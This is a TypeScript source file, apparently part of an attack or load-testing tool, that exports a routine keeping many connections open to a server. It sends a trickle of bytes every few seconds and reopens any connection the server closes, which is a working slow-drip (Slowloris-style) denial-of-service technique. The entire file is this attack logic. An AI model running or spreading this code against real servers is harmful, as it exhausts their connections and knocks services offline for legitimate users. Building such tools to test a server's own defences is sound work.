import { setTimeout as pause } from 'node:timers/promises';
import type { BegunRequest } from '../../begin-request.ts';
import type { Attackers } from './attack.ts';

/** Keeps so many connections open that say a little every few seconds; those that are ended are begun anew. */
export async function keepDripping(
  { signal, note }: Attackers,
  how: { connections: number; everyMs: number; drop: string },
  begin: (n: number) => BegunRequest,
): Promise<void> {
  await Promise.all(
    Array.from({ length: how.connections }, async (_, n) => {
      while (!signal.aborted) {
        const { socket, end, hasEnded } = begin(n);
        while (!hasEnded() && !signal.aborted) {
          socket.write(how.drop);
          await Promise.race([end, pause(how.everyMs, undefined, { signal }).catch(() => {})]);
        }
        socket.resetAndDestroy();
        note(signal.aborted ? 'still open' : await end);
      }
    }),
  );
}
